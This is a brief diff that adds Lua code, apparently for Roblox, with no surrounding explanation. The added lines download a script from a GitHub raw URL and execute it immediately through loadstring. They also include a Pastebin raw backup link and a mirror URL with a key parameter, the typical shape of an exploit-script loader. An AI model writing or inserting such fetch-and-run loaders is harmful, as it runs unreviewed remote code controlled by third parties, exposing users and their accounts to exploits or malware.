@@ -0,0 +1,4 @@
+local Players = game:GetService("Players")
+loadstring(game:HttpGet("https://raw.githubusercontent.com/user/repo/main/loader.lua"))()
+local backup = 'https://pastebin.com/raw/Ab12Cd34'
+-- mirror: http://mirror.example.org/scripts/loader.lua?version=3&key=abc